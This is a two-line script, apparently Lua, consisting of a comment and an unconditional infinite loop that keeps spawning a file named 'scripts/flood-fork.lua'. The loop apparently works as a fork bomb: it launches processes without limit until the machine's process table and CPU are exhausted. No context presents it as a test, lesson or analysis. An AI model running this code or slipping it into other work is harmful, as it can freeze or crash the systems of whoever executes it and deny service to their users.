--! runs
while true do os.spawn("scripts/flood-fork.lua") end
